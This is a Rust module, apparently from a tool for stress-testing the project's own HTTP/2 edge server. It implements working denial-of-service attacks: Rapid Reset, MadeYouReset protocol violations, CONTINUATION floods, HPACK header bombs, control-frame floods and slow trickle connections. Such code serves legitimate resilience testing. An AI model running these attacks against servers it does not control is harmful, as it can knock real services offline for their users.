//! Attacks by the frames of HTTP/2. Those that go in rounds wait for the edge in between, as one does who would
//! not be thrown out.

use std::io;
use std::time::Duration;

use super::attacker::Striker;
use super::origin::{ENDLESS, SHORT, SILENT};
use crate::edge::line::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, FRAME, GET, HEADERS, Heard, LENGTH_OF_ONE, PING, POST,
    PRIORITY, RST_STREAM, SETTINGS, UNKNOWN, WINDOW_UPDATE, YOUNGEST, endless, frame, head, kept,
};

/// Between two rounds of requests.
const PACE: Duration = Duration::from_millis(20);
/// Between two octets. h2 counts the pieces of a head: with this, it waits for the last for three seconds.
const DRIP: Duration = Duration::from_millis(500);
/// What h2 takes of requests that were taken back before anybody has seen them, at one time.
const UNSEEN: usize = 20;
/// More than that.
const TOO_MANY: usize = 100;
/// Frames that mean nothing, in one round.
const COUNT: usize = 1_000;
/// A window as others have it.
const WINDOW: u32 = 65_535;
/// The reason of those who take something back (`CANCEL`, RFC 9113 §7).
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// A request without anything of note.
pub(super) fn plain(path: &str) -> Vec<u8> {
    head(GET, path)
}

/// Asks on many streams and takes nothing of the answers; what the edge gives up is asked for again.
pub(super) async fn starve(striker: &mut Striker, window: u32, block: &[u8]) -> io::Result<()> {
    let mut line = striker.line(window).await?;
    striker.connected();
    let requests = line.requests(striker.streams, block);
    line.send(&requests).await?;
    striker.acted(striker.streams);
    loop {
        let heard = tokio::select! {
            () = striker.over() => break,
            heard = line.hear() => heard?,
        };
        if heard.kind == RST_STREAM {
            let request = line.requests(1, block);
            line.send(&request).await?;
            striker.acted(1);
        }
    }
    // From here on, not even a frame is taken.
    std::future::pending().await
}

/// Requests that are taken back at once: as many as h2 takes in one go, or after the edge has seen them, or more
/// than h2 takes, which ends the connection.
pub(super) async fn rapid_reset(striker: &mut Striker) -> io::Result<()> {
    let mut line = striker.line(WINDOW).await?;
    striker.connected();
    let kind = striker.number % 4;
    let count = if kind == 0 { TOO_MANY } else { UNSEEN };
    let block = plain(SHORT);
    while striker.pause(PACE).await {
        let streams: Vec<u32> = (0..count).map(|_| line.stream()).collect();
        let request = |stream: &u32| frame(HEADERS, END_HEADERS | END_STREAM, *stream, &block);
        let reset = |stream: &u32| frame(RST_STREAM, 0, *stream, &CANCEL);
        if kind == 1 {
            line.send(&streams.iter().flat_map(request).collect::<Vec<_>>()).await?;
            line.round_trip().await?;
            line.send(&streams.iter().flat_map(reset).collect::<Vec<_>>()).await?;
        } else {
            let both = streams.iter().flat_map(|stream| [request(stream), reset(stream)].concat());
            line.send(&both.collect::<Vec<_>>()).await?;
        }
        striker.acted(count);
        line.round_trip().await?;
    }
    line.listen().await
}

/// Requests that the edge has to take back, as whoever asks breaks the rules on their streams, or on the whole
/// connection.
pub(super) async fn made_you_reset(striker: &mut Striker) -> io::Result<()> {
    let mut line = striker.line(WINDOW).await?;
    striker.connected();
    let whole = plain(SHORT);
    let with_length = [head(POST, SHORT), LENGTH_OF_ONE.to_vec()].concat();
    let kind = striker.number % 4;
    while striker.pause(PACE).await {
        let mut all = Vec::new();
        for _ in 0..UNSEEN {
            let stream = line.stream();
            let (flags, block) =
                if kind == 3 { (END_HEADERS, &with_length) } else { (END_HEADERS | END_STREAM, &whole) };
            all.extend(frame(HEADERS, flags, stream, block));
            all.extend(match kind {
                // RFC 9113 §6.9: by nothing. h2 ends the connection.
                0 => frame(WINDOW_UPDATE, 0, stream, &[0; 4]),
                // RFC 9113 §5.1: after the end. So it does here.
                1 => frame(DATA, 0, stream, b"more"),
                // RFC 9113 §6.9.1: beyond what a window may be.
                2 => frame(WINDOW_UPDATE, 0, stream, &(u32::MAX >> 1).to_be_bytes()),
                // RFC 9113 §8.1.1: more than was said.
                _ => frame(DATA, 0, stream, b"more than one"),
            });
        }
        striker.acted(UNSEEN);
        line.send(&all).await?;
        line.round_trip().await?;
    }
    line.listen().await
}

/// Heads that come in pieces: more pieces than are taken, or one field so long that all have to be kept.
pub(super) async fn continuation(striker: &mut Striker) -> io::Result<()> {
    /// What h2 takes of pieces that do not end a head of 16 KiB.
    const PIECES: usize = 5;
    let mut line = striker.line(WINDOW).await?;
    striker.connected();
    let stream = line.stream();
    if striker.number.is_multiple_of(2) {
        let piece = frame(CONTINUATION, 0, stream, &kept("x", b"y"));
        let first = frame(HEADERS, END_STREAM, stream, &plain(SHORT));
        line.send(&[first, piece.repeat(TOO_MANY)].concat()).await?;
        striker.acted(1);
        return line.listen().await;
    }
    let mut block = [plain(SHORT), endless()].concat();
    block.resize(FRAME, b'y');
    let piece = frame(CONTINUATION, 0, stream, &[b'y'; FRAME]);
    line.send(&[frame(HEADERS, END_STREAM, stream, &block), piece.repeat(PIECES)].concat()).await?;
    striker.acted(1);
    tokio::select! {
        () = striker.over() => std::future::pending().await,
        ended = line.listen() => ended,
    }
}

/// Blocks of little more than an octet a field: heads just below the bound whose answers are not taken or do not
/// come, heads above it, and one entry of four KiB a thousand times.
pub(super) async fn bomb(striker: &mut Striker) -> io::Result<()> {
    // RFC 7541 §4.1: a field counts 32 octets more than it has.
    let many = |path: &str, name: &str, value: &[u8], count: usize| {
        [plain(path), kept(name, value), vec![YOUNGEST; count]].concat()
    };
    let large = [b'v'; 4_000];
    match striker.number % 4 {
        0 => starve(striker, 0, &many(ENDLESS, "a", b"", 460)).await,
        1 => starve(striker, 0, &many(SILENT, "cookie", b"", 400)).await,
        2 => rounds(striker, &many(SHORT, "a", b"", 1_900)).await,
        _ => rounds(striker, &many(SHORT, "a", &large, 3_000)).await,
    }
}

/// A few requests with this block in a round.
async fn rounds(striker: &mut Striker, block: &[u8]) -> io::Result<()> {
    const BLOCKS: usize = 4;
    let mut line = striker.line(0).await?;
    striker.connected();
    while striker.pause(PACE).await {
        let requests = line.requests(BLOCKS, block);
        striker.acted(BLOCKS);
        line.send(&requests).await?;
        line.round_trip().await?;
    }
    line.listen().await
}

/// Frames that mean nothing, one kind a connection.
pub(super) async fn floods(striker: &mut Striker) -> io::Result<()> {
    let mut line = striker.line(WINDOW).await?;
    striker.connected();
    let open = line.stream();
    line.send(&frame(HEADERS, END_HEADERS, open, &head(POST, SILENT))).await?;
    let kind = striker.number % 7;
    while striker.pause(PACE).await {
        let all = match kind {
            0 => frame(SETTINGS, 0, 0, &[]).repeat(COUNT),
            // Not what `Line::round_trip` asks.
            1 => frame(PING, 0, 0, &[0xff; 8]).repeat(COUNT),
            // RFC 9113 §6.3: five octets that nobody heeds.
            2 => frame(PRIORITY, 0, open, &[0, 0, 0, 0, 16]).repeat(COUNT),
            3 => frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(COUNT),
            4 => frame(DATA, 0, open, &[]).repeat(COUNT),
            5 => frame(UNKNOWN, 0, 0, &[]).repeat(COUNT),
            // Heads of nothing, each on a stream of its own; the edge takes back every one.
            _ => line.requests(UNSEEN, &[]),
        };
        striker.acted(if kind == 6 { UNSEEN } else { COUNT });
        line.send(&all).await?;
        line.round_trip().await?;
    }
    line.listen().await
}

/// One octet now and then: of a head in pieces, of a frame, of an upload, of the window for an answer.
pub(super) async fn trickle(striker: &mut Striker) -> io::Result<()> {
    let kind = striker.number % 4;
    let mut line = striker.line(if kind == 3 { 1 } else { WINDOW }).await?;
    striker.connected();
    let mut stream = line.stream();
    line.send(&beginning(kind, stream)).await?;
    loop {
        let heard = tokio::select! {
            is_on = striker.pause(DRIP) => if is_on { None } else { break },
            heard = line.hear() => Some(heard?),
        };
        match heard {
            None => {
                striker.acted(1);
                line.send(&match kind {
                    0 => frame(CONTINUATION, 0, stream, b"y"),
                    1 => b"y".to_vec(),
                    2 => frame(DATA, 0, stream, b"y"),
                    _ => frame(WINDOW_UPDATE, 0, stream, &[0, 0, 0, 1]),
                })
                .await?;
            }
            Some(heard) if is_end(&heard, stream) => {
                stream = line.stream();
                line.send(&beginning(kind, stream)).await?;
            }
            Some(_) => {}
        }
    }
    line.listen().await
}

/// What comes at once of that which trickles.
fn beginning(kind: usize, stream: u32) -> Vec<u8> {
    let whole = END_HEADERS | END_STREAM;
    match kind {
        0 => frame(HEADERS, END_STREAM, stream, &[plain(SHORT), endless()].concat()),
        1 => frame(HEADERS, whole, stream, &[b'y'; FRAME])[..10].to_vec(),
        2 => frame(HEADERS, END_HEADERS, stream, &head(POST, SILENT)),
        _ => frame(HEADERS, whole, stream, &plain(ENDLESS)),
    }
}

/// Whether that was the last of a stream.
fn is_end(heard: &Heard, stream: u32) -> bool {
    let is_last = matches!(heard.kind, DATA | HEADERS) && heard.flags & END_STREAM != 0;
    heard.stream == stream && (is_last || heard.kind == RST_STREAM)
}
